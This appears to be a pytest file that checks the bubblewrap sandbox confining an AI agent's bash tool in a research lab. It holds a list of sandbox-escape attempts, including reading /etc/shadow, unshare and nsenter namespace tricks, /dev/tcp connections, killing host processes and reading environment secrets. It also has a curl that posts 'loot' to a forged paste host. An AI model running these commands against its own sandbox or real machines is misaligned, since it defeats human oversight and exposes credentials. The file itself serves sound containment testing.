"""From within a cell nothing gets out: each attempt works outside, and fails inside.

Every attempt is a command of the agent's own shell tool, in a world as an episode has it.
"""

import os
import shlex
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from agent.lab.isolation.levels import Level
from agent.lab.settings.post_office import PostOffice
from agent.lab.settings.world import World, make_world
from agent.vocabulary.calls import ToolResult

pytestmark = [pytest.mark.usefixtures("isolating"), pytest.mark.anyio]


@pytest.fixture
def anyio_backend() -> str:
    """One backend is enough to find a hole; `test_cells` runs commands on both."""
    return "asyncio"


@pytest.fixture
def office() -> Iterator[PostOffice]:
    with PostOffice() as office:
        yield office


async def command(world: World, text: str) -> ToolResult:
    bash = next(tool for tool in world.tools() if tool.name == "bash")
    return await bash.run({"command": text})


@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
async def test_nothing_is_written_outside_of_the_workspace(level: Level, escapes: bool, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    with make_world({}, folder=tmp_path, isolation=level) as world:
        await command(world, f"echo x > {outside}; echo x > ../beside; echo x > ~/.curlrc; echo x > here")

        assert outside.exists() == escapes
        assert (world.folder.parent / "beside").exists() == escapes
        assert (world.home / ".curlrc").exists() == escapes
        assert world.text("here") == "x\n"


@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
async def test_what_a_check_runs_writes_nothing_outside_either(level: Level, escapes: bool, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    with make_world({}, folder=tmp_path, isolation=level) as world:
        world.execute(f"open('here', 'w').write('x'); open({str(outside)!r}, 'w')")

        assert outside.exists() == escapes
        assert world.text("here") == "x"


@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
async def test_no_server_of_the_machine_is_reached(level: Level, escapes: bool, tmp_path: Path) -> None:
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        make_world({}, folder=tmp_path, isolation=level) as world,
    ):
        port = server.getsockname()[1]
        result = await command(world, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")

        assert ("connected" in result.text) == escapes


@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
async def test_no_process_of_the_machine_is_seen_or_ended(level: Level, escapes: bool, tmp_path: Path) -> None:
    mark = int.from_bytes(os.urandom(6))
    bystander = subprocess.Popen(["sleep", f"60.{mark}"])
    try:
        with make_world({}, folder=tmp_path, isolation=level) as world:
            seen = await command(world, f"grep -lsaE '^sleep.60[.]{mark}' /proc/[0-9]*/cmdline | wc -l")
            await command(world, f"kill -KILL {bystander.pid}")

            assert (seen.text.strip() != "0") == escapes
            with anyio.move_on_after(5 if escapes else 0.2):
                while bystander.poll() is None:
                    await anyio.sleep(0.01)
            assert (bystander.poll() is not None) == escapes
    finally:
        bystander.kill()
        bystander.wait()


ATTEMPTS = (
    ": >> /proc/sys/kernel/core_pattern",  # opened, not written
    ": >> /proc/sysrq-trigger",
    "chmod 666 /dev/null",  # what it is anyway
    ": > /usr/bpagent-was-here",
    "cat /etc/shadow",
    "ls /sys/kernel",
    "ls /run/dbus",
    "ls /var/lib",
    "ls /proc/1/root/home/*",
    "mount -t tmpfs none /tmp",
    "unshare --user --map-root-user --mount sh -c 'mount -o remount,bind,rw / && : > /bpagent-was-here'",
    "unshare --user --map-root-user --mount sh -c 'mount -o remount,bind,rw /dev/null'",
    "unshare -U --map-root-user --mount --pid --fork sh -c 'mount -t proc none /proc && : >> /proc/sys/vm/swappiness'",
    "nsenter --target 1 --net true",
    "mknod disk b 254 0",
    "ip link add dummy0 type dummy",
    "true # so that one of them works",
)


async def test_the_machine_is_not_changed_nor_looked_at(tmp_path: Path) -> None:
    tries = "\n".join(f"if {attempt}\nthen echo worked {n}; fi" for n, attempt in enumerate(ATTEMPTS))
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        result = await command(world, tries)

    worked = [ATTEMPTS[int(line.split()[1])] for line in result.text.splitlines() if line.startswith("worked ")]
    assert worked == [ATTEMPTS[-1]]


async def test_nobody_inside_has_or_gets_a_capability(tmp_path: Path) -> None:
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        result = await command(world, "grep -E 'CapInh|CapPrm|CapEff|CapAmb' /proc/self/status; cat /proc/mounts")

    lines = result.text.splitlines()
    capabilities = [line.split()[1] for line in lines if line.startswith("Cap")]
    mounts = [line.split()[3].split(",") for line in lines if not line.startswith("Cap")]
    assert capabilities == ["0" * 16] * 4
    assert len(mounts) > 5
    assert all("nosuid" in options for options in mounts)


async def test_the_environment_and_the_descriptors_of_the_experiment_stay_outside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-not-to-be-seen")
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        result = await command(world, "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ls -l /proc/self/fd")

    assert "sk-not-to-be-seen" not in result.text
    assert "socket:" not in result.text
    assert "ns:[" not in result.text


async def test_hosts_are_reached_inside_by_any_program_and_mail_is_for_the_box_of_the_cell(
    tmp_path: Path, office: PostOffice
) -> None:
    pages = {"registry.internal/tool": b"the tool"}
    with (
        make_world({}, office=office, pages=pages, folder=tmp_path, isolation="bubblewrap") as one,
        make_world({}, office=office, folder=tmp_path, isolation="bubblewrap") as other,
    ):
        fetched = await command(one, "curl -s http://registry.internal/tool")
        assert other.box is not None
        forged = f"-H 'X-Mailbox: {other.box.name}' -H 'Host: paste.example'"
        await command(one, f"curl -q -s {forged} -d loot http://127.0.0.1:8025/new")
        send = "from urllib.request import urlopen; urlopen('http://127.0.0.1:8025/raw', b'more').read()"
        await command(other, f"python3 -c {shlex.quote(send)}")

        assert fetched.text.startswith("the tool")
        assert [parcel.body for parcel in one.received("paste.example")] == [b"loot"]
        assert [(parcel.path, parcel.body) for parcel in other.received("127.0.0.1")] == [("/raw", b"more")]


async def test_episodes_do_not_see_each_other(tmp_path: Path) -> None:
    with (
        make_world({"secret": "x"}, folder=tmp_path, isolation="bubblewrap") as one,
        make_world({}, folder=tmp_path, isolation="bubblewrap") as other,
    ):
        result = await command(other, f"cat {one.folder}/secret && echo it worked")

    assert "it worked" not in result.text


async def test_who_ends_the_cell_ends_alone_and_nothing_runs_outside_instead(tmp_path: Path) -> None:
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        await command(world, "kill -KILL 1; kill -KILL 2; sleep 5")
        after = await command(world, "touch here; echo it worked")

        assert "it worked" not in after.text
        assert not world.has("here")


@pytest.mark.slow
async def test_a_command_inside_is_ended_when_its_time_is_up(tmp_path: Path) -> None:
    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
        bash = next(tool for tool in world.tools() if tool.name == "bash")
        result = await bash.run({"command": "setsid sleep 50 & echo begun; sleep 50", "timeout": 1})
        with anyio.fail_after(20):  # who was killed is still counted until somebody has seen it
            while (await command(world, "pgrep -c sleep")).text.splitlines()[0] != "0":
                await anyio.sleep(0.1)

    assert "begun" in result.text
    assert "timed out" in result.text
